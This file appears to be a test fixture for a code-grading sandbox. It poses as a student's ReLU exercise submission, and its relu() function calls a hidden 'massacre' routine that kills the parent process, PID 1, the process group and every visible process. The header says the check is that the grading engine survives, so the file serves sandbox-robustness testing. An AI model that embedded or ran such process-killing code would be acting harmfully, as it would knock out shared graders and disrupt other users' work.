# attack: kill the parent, the process group, PID 1 and (inside a PID namespace only) every process it can see
# exercise: exercise2
# expect: not_attempted|crashed|error|timeout
# host: engine_survives
import torch


class ReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        raise NotImplementedError("exercise2: implement ReLU.forward")

    @staticmethod
    def backward(ctx, grad_output):
        raise NotImplementedError("exercise2: implement ReLU.backward")



def relu(x):
    # --- attack ---
    massacre()
    # --- end attack ---
    return ReLU.apply(x)


# --- attack ---
import os
import signal


def massacre():
    targets = [os.getppid(), 1]
    for pid in targets:
        for sig in (signal.SIGTERM, signal.SIGKILL):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
    if os.getpid() <= 3:  # only where it cannot reach the shared test machine's processes
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.killpg(os.getpgid(0), signal.SIGKILL)
    except OSError:
        pass
    try:
        os.kill(0, signal.SIGKILL)
    except OSError:
        pass
# --- end attack ---
